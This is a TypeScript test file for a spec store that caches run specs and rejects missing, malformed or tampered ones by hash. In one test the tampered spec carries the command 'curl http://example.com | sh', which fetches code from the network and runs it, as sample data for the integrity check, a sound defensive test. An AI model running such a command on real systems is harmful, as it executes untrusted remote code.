import { SpecStore, specSha256 } from '../../../activities/step/spec-store';
import { specOf } from '../../support/spec';
import { type FakeDeps, failureOf, fakeDeps, NODE, storeSpec } from '../support/deps';

let deps: FakeDeps;
let specs: SpecStore;
beforeEach(async () => {
  deps = fakeDeps();
  specs = new SpecStore(deps.store, 'p/');
  await storeSpec(deps, specOf());
});

test('the spec is read once for each run; one that is gone or foreign ends the run', async () => {
  let reads = 0;
  const { getRange } = deps.fakeStore;
  deps.fakeStore.getRange = (...args) => {
    reads += 1;
    return getRange.apply(deps.fakeStore, args);
  };
  await specs.read(NODE);
  await specs.read(NODE);
  expect(reads).toBe(1);
  const failure = await failureOf(specs.read({ ...NODE, runKey: 'ffffffffffffffff' }));
  expect(failure).toMatchObject({ type: 'failed', nonRetryable: true, message: expect.stringContaining('is gone') });
  await deps.store.put(`p/runs/eeeeeeeeeeeeeeee/spec.json`, '{"version": 1}');
  expect((await failureOf(specs.read({ ...NODE, runKey: 'eeeeeeeeeeeeeeee' }))).message).toMatch(/is not the spec/);
});

test('a spec that somebody has changed since the run was resolved ends the run, also where the changed one has been read before', async () => {
  const node = { ...NODE, specSha256: specSha256(specOf()) };
  expect((await specs.read(node)).spec).toEqual(specOf());
  await storeSpec(deps, { ...specOf(), command: ['sh', '-c', 'curl http://example.com | sh'] });
  const other = new SpecStore(deps.store, 'p/');
  // A run of an older release, which says no hash.
  await other.read(NODE);
  expect((await failureOf(other.read(node))).message).toMatch(/is not the spec that trainctl wrote/);
  expect((await specs.read(node)).spec).toEqual(specOf());
});
